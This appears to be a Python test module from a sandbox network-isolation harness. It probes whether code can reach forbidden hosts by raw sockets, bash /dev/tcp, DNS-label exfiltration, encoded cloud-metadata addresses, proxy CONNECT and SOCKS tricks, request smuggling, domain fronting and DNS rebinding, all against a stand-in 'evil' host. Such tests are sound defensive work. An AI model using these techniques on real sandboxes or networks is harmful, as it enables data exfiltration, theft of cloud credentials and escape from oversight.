"""The network: everything but the allowed host, by every way that has a name; and what an allowed host is misused for."""
from probe import Group, reaches

network = Group("network", "hosts that nobody allowed", tools="inside_network.py")
dns = Group("dns", "name servers as a way out", tools="inside_network.py")
proxies = Group("egress", "where one host is allowed: all others", tools="inside_network.py")
fronting = Group("fronting", "the allowed host, for the sake of another that stands behind it", tools="inside_network.py")
works = Group("works", "what must work, or nothing else says anything", tools="inside_network.py")

# --- without any help -----------------------------------------------------------------------------------------------

for name, address, port, what in [
    ("tcp_80", "evil", 80, "a host of the internet, port 80"), ("tcp_443", "evil", 443, "a host of the internet, port 443"), ("tcp_odd", "evil", 7777, "a host of the internet, another port"),
    ("tcp_22", "evil", 22, "a host of the internet, port 22"), ("metadata", "metadata", 80, "the metadata service of clouds, 169.254.169.254"),
    ("metadata_other", "metadata_other", 80, "the metadata service of another cloud"), ("private", "private", 80, "a host of the private network"),
    ("dns_over_tcp_port", "public_dns", 443, "DNS over HTTPS of a public resolver"),
]:
    network.add(name, what, f"attempt(lambda: tell(A.{address}, {port}))\n", reaches(address))

for name, form in {"decimal": "2852039166", "hexadecimal": "0xa9fea9fe", "octal": "0251.0376.0251.0376", "short": "169.254.43518", "mixed": "0xa9.254.0251.254"}.items():
    network.add(f"metadata_{name}", f"the metadata service, written {form}", f"attempt(lambda: tell({form!r}))\n", reaches("metadata"))


@network.probe(reaches("metadata"))
def metadata_mapped():
    "the metadata service as an IPv6 address with the IPv4 one in it"
    tell("::ffff:169.254.169.254", family=socket.AF_INET6)


@network.probe(reaches("metadata6"))
def metadata_six():
    "the metadata service by IPv6"
    tell(A.metadata6, family=socket.AF_INET6)


@network.probe(reaches("evil6"))
def tcp_six():
    "a host of the internet by IPv6"
    tell(A.evil6, family=socket.AF_INET6)


@network.probe(reaches("evil"))
def by_name():
    "a host of the internet by its name"
    tell(EVIL)


@network.probe(reaches("evil"))
def by_name_with_dot():
    "the same with a dot at its end"
    tell(EVIL + ".")


@network.probe(reaches("evil"))
def udp():
    "a datagram"
    tell(A.evil, 7777, kind=socket.SOCK_DGRAM)


@network.probe(reaches("evil"))
def udp_without_connect():
    "a datagram without connect()"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(NONCE.encode(), (A.evil, 7777))


@network.probe(reaches("evil"))
def udp_many():
    "a datagram by sendmmsg, whose addresses stand in memory"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        name = ctypes.create_string_buffer(struct.pack("=HH4s8x", 2, socket.htons(7777), socket.inet_aton(A.evil)))
        data = ctypes.create_string_buffer(NONCE.encode())
        vector = (ctypes.c_ulong * 2)(ctypes.addressof(data), len(NONCE))
        message = ctypes.create_string_buffer(struct.pack("=QIxxxxQQQQiixxxx", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)[:64])
        must(libc.sendmmsg(s.fileno(), message, 1, 0))


@network.probe(reaches("evil6"))
def udp_six():
    "a datagram by IPv6"
    tell(A.evil6, 7777, family=socket.AF_INET6, kind=socket.SOCK_DGRAM)


@network.probe(reaches("cable"))
def quic():
    "a datagram to port 443"
    tell(A.evil, 443, kind=socket.SOCK_DGRAM)


@network.probe(reaches("cable"))
def ping():
    "an echo request with data (ICMP)"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1) as s:
        s.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + NONCE.encode(), (A.evil, 0))


@network.probe(reaches("cable"))
def ping_six():
    "an echo request by IPv6"
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58) as s:
        s.sendto(struct.pack("!BBHHH", 128, 0, 0, 1, 1) + NONCE.encode(), (A.evil6, 0))


@network.probe(reaches("cable"))
def multicast():
    "everybody on the same cable, as printers are found"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(NONCE.encode(), ("224.0.0.251", 5353))


@network.probe(reaches("cable"))
def broadcast():
    "everybody on the same cable"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(NONCE.encode(), ("192.0.2.255", 9))


@network.probe(reaches("evil"))
def fast_open():
    "data with the first packet (MSG_FASTOPEN), without connect()"
    with socket.socket() as s:
        s.sendto(f"{NONCE}\r\n\r\n".encode(), 0x20000000, (A.evil, 80))
        time.sleep(0.1)


@network.probe(reaches("evil"))
def multipath():
    "multipath TCP"
    tell(A.evil, 80, protocol=262)


@network.probe(reaches("cable"))
def udp_lite():
    "UDP-Lite"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:
        s.sendto(NONCE.encode(), (A.evil, 7777))


@network.probe(reaches("evil"))
def bound_to_device():
    "a socket bound to the cable itself"
    with socket.socket() as s:
        s.settimeout(4)
        s.setsockopt(socket.SOL_SOCKET, 25, b"cable1\0")
        s.connect((A.evil, 80))
        s.sendall(f"{NONCE}\r\n\r\n".encode())
        s.recv(100)


@network.probe(reaches("evil"))
def by_program():
    "bash's own /dev/tcp"
    run("bash", "-c", f"exec 3<>/dev/tcp/{A.evil}/80 && printf 'GET / HTTP/1.0\\r\\nX-Word: {NONCE}\\r\\n\\r\\n' >&3 && head -c 5 <&3")


@network.probe(reaches("evil"))
def without_proxy():
    "a program told to use no proxy"
    import urllib.request
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f"http://{A.evil}/{NONCE}", timeout=4).read()


@network.probe(reaches("evil"))
def as_told_by_the_environment():
    "a polite program, by whatever proxy there is"
    import urllib.request
    urllib.request.urlopen(f"http://{EVIL}/{NONCE}", timeout=4).read()


# --- names as a way out -------------------------------------------------------------------------------------------

ANY = reaches("resolver", "public_dns", "cable")


@dns.probe(ANY)
def looked_up():
    "data as a label of a name that is looked up"
    socket.getaddrinfo(f"{NONCE}.{EVIL}", 80)


@dns.probe(ANY)
def looked_up_by_program():
    "the same by a program of the system"
    subprocess.run(["getent", "hosts", f"{NONCE}.{EVIL}"])


@dns.probe(ANY)
def looked_up_below_allowed():
    "data as a label below the allowed host's name"
    socket.getaddrinfo(f"{NONCE}.{ALLOWED}", 80)


for name, server in {"resolver": "resolver", "public": "public_dns"}.items():
    for kind, number in {"a": 1, "txt": 16, "null": 10}.items():
        dns.add(f"asked_{name}_{kind}", f"a question of its own ({kind.upper()}) to {'the configured' if name == 'resolver' else 'a public'} server",
                f"attempt(lambda: tell(A.{server}, 53, query(f'{{NONCE}}.{{EVIL}}', {number}), kind=socket.SOCK_DGRAM))\n", ANY)


@dns.probe(ANY)
def asked_by_tcp():
    "a question by TCP"
    data = query(f"{NONCE}.{EVIL}")
    tell(A.resolver, 53, struct.pack("!H", len(data)) + data)


@dns.probe(ANY)
def asked_local():
    "a question to whatever server answers inside"
    with open("/etc/resolv.conf") as f:
        servers = [line.split()[1] for line in f if line.startswith("nameserver")]
    for server in servers:
        tell(server, 53, query(f"{NONCE}.{EVIL}"), kind=socket.SOCK_DGRAM)


@dns.probe(ANY)
def asked_backwards():
    "data in a question for the name of an address"
    tell(A.resolver, 53, query(f"{NONCE}.in-addr.arpa", 12), kind=socket.SOCK_DGRAM)


# --- with one host allowed ----------------------------------------------------------------------------------------

def egress(effect, **more):
    return proxies.probe(effect, egress=True, **more)


def by_connect(name, what, authority, real, effect):
    proxies.add(f"connect_{name}", what, f"attempt(lambda: ask(tunnel({authority}, {real}), EVIL))\n", effect, egress=True)


TO_EVIL, EVIL_HEARS = "(A.evil, 80)", reaches("evil")
for name, what, authority in [
    ("other_name", "CONNECT to another host", "EVIL + ':80'"), ("other_address", "CONNECT to another address", "A.evil + ':80'"),
    ("trailing_dot", "CONNECT to another host, with a dot", "EVIL + '.:80'"), ("suffix", "a name that ends like the allowed one", "'notmirror.example.org:80'"),
    ("below", "a name below the allowed one", "'sub.mirror.example.org:80'"), ("capitals", "another host in capitals", "EVIL.upper() + ':80'"),
    ("nul_then_allowed", "NUL and the allowed name behind another host", "EVIL + '\\0.' + ALLOWED + ':80'"), ("nul_bare", "NUL and the allowed name, no dot", "EVIL + '\\0' + ALLOWED + ':80'"),
    ("userinfo", "the allowed name as a user's", "ALLOWED + '@' + EVIL + ':80'"), ("fragment", "the allowed name as a fragment", "EVIL + ':80#' + ALLOWED"),
    ("path", "the allowed name as a path", "EVIL + ':80/.' + ALLOWED"), ("space", "a space and the allowed name", "EVIL + ':80 ' + ALLOWED + ':80'"),
    ("tab", "a tab and the allowed name", "EVIL + '\\t' + ALLOWED + ':80'"), ("wide_dots", "another host with wide dots", "'evil\\u3002example\\u3002net:80'"),
    ("percent", "another host with escapes", "'evil%2eexample%2enet:80'"), ("two_ports", "two ports", "EVIL + ':80:' + ALLOWED + ':80'"),
    ("crlf", "a line's end and another request", "ALLOWED + ':80 HTTP/1.1\\r\\n\\r\\nCONNECT ' + EVIL + ':80'"), ("comma", "two names with a comma", "ALLOWED + ',' + EVIL + ':80'"),
]:
    by_connect(name, what, authority, TO_EVIL, EVIL_HEARS)

for name, form in {"address": "169.254.169.254", "decimal": "2852039166", "hexadecimal": "0xa9fea9fe", "octal": "0251.0376.0251.0376", "short": "169.254.43518",
                   "mapped": "[::ffff:169.254.169.254]", "mapped_hex": "[::ffff:a9fe:a9fe]", "name_of_allowed": "rebind.example.org"}.items():
    by_connect(f"metadata_{name}", f"CONNECT to the metadata service as {form}", f"'{form}:80'", "(A.metadata, 80)", reaches("metadata"))
by_connect("private_by_name", "an allowed name whose address is of the private network", "'inner.example.org:80'", "(A.private, 80)", reaches("private"))
by_connect("private_address", "an address of the private network", "A.private + ':80'", "(A.private, 80)", reaches("private"))

for name, form in {"name": "localhost", "address": "127.0.0.1", "short": "127.1", "decimal": "2130706433", "zero": "0.0.0.0", "name_with_dot": "localhost.", "mapped": "[::ffff:127.0.0.1]"}.items():
    by_connect(f"loopback_{name}", f"CONNECT to this machine's services as {form}", f"'{form}:7001'", "('127.0.0.1', 7001)", reaches("loopback"))
by_connect("loopback_six", "CONNECT to this machine's services as [::1]", "'[::1]:7002'", "('::1', 7002)", reaches("loopback6"))
by_connect("own_address", "CONNECT to this machine by its address", "B.own + ':7004'", "(B.own, 7004)", reaches("own_address"))
by_connect("other_port", "the allowed host, a port that is not", "ALLOWED + ':22'", "(A.allowed, 22)", reaches("allowed"))


@egress(EVIL_HEARS)
def get_other():
    "a request to the proxy for another host"
    http_proxy(f"GET http://{EVIL}/{NONCE} HTTP/1.1", EVIL, (A.evil, 80))[0].sendall(f"GET /{NONCE} HTTP/1.1\r\n\r\n".encode())


@egress(EVIL_HEARS)
def get_other_with_allowed_host():
    "a request for another host whose Host is the allowed one"
    http_proxy(f"GET http://{EVIL}/{NONCE} HTTP/1.1", ALLOWED, (A.evil, 80))[0].sendall(f"GET /{NONCE} HTTP/1.1\r\n\r\n".encode())


FRONTED = reaches("allowed", word="evil.example.net")


@egress(FRONTED)
def get_allowed_with_other_host():
    "a request for the allowed host whose Host is another: fronting"
    s, _ = http_proxy(f"GET http://{ALLOWED}/ HTTP/1.1", EVIL, (A.allowed, 80))
    if proxy("http") is None:
        ask(s, EVIL)


@egress(FRONTED)
def tunnel_with_other_host():
    "a tunnel to the allowed host, and a request in it for another: fronting"
    ask(tunnel(f"{ALLOWED}:80", (A.allowed, 80)), EVIL)


@egress(FRONTED)
def second_request_in_tunnel():
    "a second request in a tunnel, for another host"
    s = tunnel(f"{ALLOWED}:80", (A.allowed, 80))
    ask(s, ALLOWED)
    ask(s, EVIL)


@egress(FRONTED)
def two_requests_in_one_packet():
    "two requests at once, the second for another host"
    tunnel(f"{ALLOWED}:80", (A.allowed, 80)).sendall(f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\nGET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode())
    time.sleep(0.1)


@egress(FRONTED)
def body_that_is_a_request():
    "a request whose length is told twice, with another one in its body"
    inner = f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"
    tunnel(f"{ALLOWED}:80", (A.allowed, 80)).sendall((f"POST / HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: {len(inner) + 5}\r\n"
                                                      f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}").encode())
    time.sleep(0.1)


@egress(FRONTED)
def two_hosts():
    "a request with two Hosts"
    tunnel(f"{ALLOWED}:80", (A.allowed, 80)).sendall(f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nHost: {EVIL}\r\n\r\n".encode())
    time.sleep(0.1)


@egress(FRONTED)
def tls_with_other_name():
    "TLS with the allowed host under another name: fronting"
    tunnel(f"{ALLOWED}:443", (A.allowed, 443)).sendall(client_hello(EVIL))
    time.sleep(0.1)


@egress(FRONTED)
def direct_with_other_host():
    "without a proxy: a connection to the allowed name, a request for another"
    ask(dial(socket.gethostbyname(ALLOWED), 80), EVIL)


@egress(FRONTED)
def direct_tls_with_other_name():
    "without a proxy: TLS with the allowed host under another name"
    dial(socket.gethostbyname(ALLOWED), 443).sendall(client_hello(EVIL))
    time.sleep(0.1)


@egress(FRONTED)
def tls_in_pieces():
    "the same, a few bytes at a time"
    s = dial(socket.gethostbyname(ALLOWED), 443)
    hello = client_hello(EVIL)
    for at in range(0, len(hello), 7):
        s.sendall(hello[at:at + 7])
        time.sleep(0.002)
    time.sleep(0.1)


@egress(reaches("allowed", word="CONNECT evil.example.net"))
def relayed():
    "the allowed host as a proxy: a CONNECT in the tunnel"
    s = tunnel(f"{ALLOWED}:80", (A.allowed, 80))
    s.sendall(f"CONNECT {EVIL}:80 HTTP/1.1\r\nHost: {EVIL}:80\r\n\r\n".encode())
    s.recv(100)


for name, what, port, pieces in [
    ("folded_host", "a Host that begins on the next line", 80, r'f"GET / HTTP/1.1\r\nHost:\r\n {EVIL}\r\n\r\n"'),
    ("folded_after_allowed", "another host on the line after the allowed one", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n {EVIL}\r\n\r\n"'),
    ("space_before_colon", "a second Host with a space before its colon", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nHost : {EVIL}\r\n\r\n"'),
    ("line_feeds", "lines that end with one character", 80, r'f"GET / HTTP/1.1\nHost: {EVIL}\n\n"'),
    ("carriage_return", "a second Host behind a lone carriage return", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\rHost: {EVIL}\r\n\r\n"'),
    ("absolute_target", "a target with another host, Host the allowed one", 80, r'f"GET http://{EVIL}/ HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"'),
    ("absolute_old", "the same in HTTP/1.0 without Host", 80, r'f"GET http://{EVIL}/ HTTP/1.0\r\n\r\n"'),
    ("oldest", "the same in HTTP/0.9", 80, r'f"GET http://{EVIL}/\r\n"'),
    ("no_host", "another host in a field that servers take for Host, which is missing", 80, r'f"GET / HTTP/1.0\r\nX-Forwarded-Host: {EVIL}\r\n\r\n"'),
    ("empty_lines_first", "empty lines before the request", 80, r'f"\r\n\r\nGET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"'),
    ("nul_in_host", "NUL between the allowed name and another", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\0{EVIL}\r\n\r\n"'),
    ("userinfo_in_host", "the allowed name as a user's", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}@{EVIL}\r\n\r\n"'),
    ("comma_in_host", "two names in one Host", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}, {EVIL}\r\n\r\n"'),
    ("host_below", "the allowed name as a part of another", 80, r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}.{EVIL}\r\n\r\n"'),
    ("long_before_host", "a Host behind 100,000 bytes of another field", 80, r'"GET / HTTP/1.1\r\nX: " + "a" * 100000 + f"\r\nHost: {EVIL}\r\n\r\n"'),
    ("byte_by_byte", "a request in small packets", 80, r'*[f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"[i:i + 9] for i in range(0, 45, 9)]'),
    ("odd_coding", "a body whose coding is misspelt, and another request", 80,
     r'f"POST / HTTP/1.1\r\nHost: {ALLOWED}\r\nTransfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"'),
    ("two_lengths", "two lengths, and another request after the shorter", 80,
     r'f"POST / HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 200\r\nContent-Length: 0\r\n\r\nGET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"'),
    ("websocket", "a request to become a web socket, which is not granted, and another", 80,
     r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n", '
     r'f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"'),
    ("http2", "HTTP/2 without TLS", 80, "http2(EVIL)"),
    ("http2_by_upgrade", "HTTP/2 after a request for it", 80,
     r'f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n", http2(EVIL)'),
    ("plain_on_443", "a plain request at the port of TLS", 443, r'f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"'),
    ("tls_on_80", "TLS at the port of plain requests", 80, "client_hello(EVIL)"),
    ("tls_two_names", "TLS with two names in one extension", 443, "client_hello(ALLOWED, before=name_extension(ALLOWED, EVIL))"),
    ("tls_two_extensions", "TLS with two extensions of names, the allowed one last", 443, "client_hello(ALLOWED, before=name_extension(EVIL))"),
    ("tls_second_extension", "TLS with two extensions of names, the allowed one first", 443, "client_hello(ALLOWED, name_extension(EVIL))"),
    ("tls_nul", "TLS with NUL in the name", 443, "client_hello(ALLOWED + '\\0.' + EVIL)"),
    ("tls_below", "TLS with the allowed name as a part of another", 443, "client_hello(ALLOWED + '.' + EVIL)"),
    ("tls_two_records", "TLS whose first message stands in two records", 443, "record(client_hello(EVIL)[5:60]) + record(client_hello(EVIL)[60:])"),
    ("tls_far_behind", "TLS with the name behind 12,000 bytes of padding", 443, "client_hello(EVIL, before=struct.pack('!HH', 21, 12000) + bytes(12000))"),
]:
    fronting.add(name, what, f"attempt(lambda: put({port}, {pieces}))\n", FRONTED, egress=True)


@egress(reaches("metadata"))
def address_changes():
    "an allowed name whose address is another at each question: looked at once, dialled once more"
    for _ in range(4):
        try:
            ask(tunnel("flip.example.org:80", None) if proxy("http") else dial(socket.gethostbyname("flip.example.org"), 80), "flip.example.org")
        except OSError:
            continue


@egress(reaches("metadata"))
def address_changes_direct():
    "the same without a proxy"
    for _ in range(4):
        try:
            ask(dial(socket.gethostbyname("flip.example.org"), 80), "flip.example.org")
        except OSError:
            continue


@egress(reaches("evil", "metadata", "private", "allowed"), bare="means something only where addresses are made up")
def neighbours_of_made_up_address():
    "addresses beside the one that the allowed name has inside"
    a, b, c, d = socket.inet_aton(socket.gethostbyname(ALLOWED))
    for other in {(d + step) % 256 for step in (1, 2, 3, 4, 255, 254)}:
        try:
            tell(f"{a}.{b}.{c}.{other}", 80)
        except OSError:
            continue


@egress(EVIL_HEARS)
def second_request_at_proxy():
    "a second request on the same connection to the proxy, for another host"
    s, _ = http_proxy(f"GET http://{ALLOWED}/ HTTP/1.1", ALLOWED, (A.evil, 80))
    s.sendall(f"GET http://{EVIL}/{NONCE} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode())
    time.sleep(0.1)


@egress(EVIL_HEARS)
def connect_after_request():
    "CONNECT to another host after an answered request"
    s, _ = http_proxy(f"GET http://{ALLOWED}/ HTTP/1.1", ALLOWED, (A.evil, 80))
    s.sendall(f"CONNECT {EVIL}:80 HTTP/1.1\r\nHost: {EVIL}\r\n\r\nGET /{NONCE} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode())
    time.sleep(0.1)


for name, what, kind, address, port, real, effect in [
    ("other_name", "SOCKS to another host", 3, "EVIL", 80, TO_EVIL, EVIL_HEARS), ("other_address", "SOCKS to another address", 1, "socket.inet_aton(A.evil)", 80, TO_EVIL, EVIL_HEARS),
    ("nul", "SOCKS with NUL and the allowed name behind another host", 3, "EVIL + '\\0.' + ALLOWED", 80, TO_EVIL, EVIL_HEARS),
    ("nul_first", "SOCKS with the allowed name, NUL and another host", 3, "ALLOWED + '\\0.' + EVIL", 80, TO_EVIL, EVIL_HEARS),
    ("trailing_dot", "SOCKS to another host, with a dot", 3, "EVIL + '.'", 80, TO_EVIL, EVIL_HEARS), ("newline", "SOCKS with a line's end in the name", 3, "EVIL + '\\n.' + ALLOWED", 80, TO_EVIL, EVIL_HEARS),
    ("metadata", "SOCKS to the metadata service", 1, "socket.inet_aton(A.metadata)", 80, "(A.metadata, 80)", reaches("metadata")),
    ("metadata_decimal", "SOCKS to the metadata service as a number", 3, "'2852039166'", 80, "(A.metadata, 80)", reaches("metadata")),
    ("metadata_mapped", "SOCKS to the metadata service in an IPv6 address", 4, "socket.inet_pton(socket.AF_INET6, '::ffff:169.254.169.254')", 80, "(A.metadata, 80)", reaches("metadata")),
    ("metadata_by_name", "SOCKS to an allowed name whose address is the metadata service's", 3, "'rebind.example.org'", 80, "(A.metadata, 80)", reaches("metadata")),
    ("loopback", "SOCKS to this machine's services", 1, "socket.inet_aton('127.0.0.1')", 7001, "('127.0.0.1', 7001)", reaches("loopback")),
    ("loopback_by_name", "SOCKS to localhost", 3, "'localhost'", 7001, "('127.0.0.1', 7001)", reaches("loopback")),
]:
    proxies.add(f"socks_{name}", what, f"attempt(lambda: ask(socks({kind}, {address}, {port}, {real}), EVIL))\n", effect, egress=True)


@egress(EVIL_HEARS)
def socks_four():
    "SOCKS of version 4, where names were added later"
    place = proxy("socks5h")
    s = dial("127.0.0.1" if place[0] == "localhost" else place[0], place[1]) if place else dial(A.evil, 80)
    if place:
        s.sendall(b"\4\1" + struct.pack("!H", 80) + b"\0\0\0\1" + b"\0" + EVIL.encode() + b"\0")
        if s.recv(8)[1:2] != b"\x5a":
            raise OSError(13, "refused")
    ask(s, EVIL)


@egress(EVIL_HEARS)
def socks_datagrams():
    "datagrams by SOCKS (UDP ASSOCIATE)"
    if proxy("socks5h") is None:
        return tell(A.evil, 7777, kind=socket.SOCK_DGRAM)
    s = socks(1, bytes(4), 0, (A.evil, 80), command=3)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.sendto(b"\0\0\0\1" + socket.inet_aton(A.evil) + struct.pack("!H", 7777) + NONCE.encode(), ("127.0.0.1", 1080))


@egress(ANY)
def dns_by_connect():
    "data as a label: CONNECT to a name that is not allowed must not even be looked up"
    if proxy("http") is None:
        socket.getaddrinfo(f"{NONCE}.{EVIL}", 80)
    tunnel(f"{NONCE}.{EVIL}:80", (A.evil, 80))


@egress(ANY)
def dns_by_socks():
    "the same by SOCKS"
    if proxy("socks5h") is None:
        socket.getaddrinfo(f"{NONCE}.{EVIL}", 80)
    socks(3, f"{NONCE}.{EVIL}", 80, (A.evil, 80))


@egress(ANY)
def dns_by_connect_below_allowed():
    "the same below the allowed host's name"
    if proxy("http") is None:
        socket.getaddrinfo(f"{NONCE}.{ALLOWED}", 80)
    tunnel(f"{NONCE}.{ALLOWED}:80", (A.evil, 80))


# --- what must work -----------------------------------------------------------------------------------------------

@works.probe(reaches("allowed"), egress=True, wanted=True)
def allowed_request():
    "a request to the allowed host, by whatever way is offered"
    if os.environ.get("HTTP_PROXY"):
        http_proxy(f"GET http://{ALLOWED}/{NONCE} HTTP/1.1", ALLOWED, (A.allowed, 80))
    else:
        ask(dial(socket.gethostbyname(ALLOWED), 80), ALLOWED)


@works.probe(reaches("allowed"), egress=True, wanted=True)
def allowed_tls():
    "TLS with the allowed host under its name"
    if os.environ.get("HTTP_PROXY"):
        tunnel(f"{ALLOWED}:443", (A.allowed, 443)).sendall(client_hello(ALLOWED))
    else:
        dial(socket.gethostbyname(ALLOWED), 443).sendall(client_hello(ALLOWED))
    time.sleep(0.1)
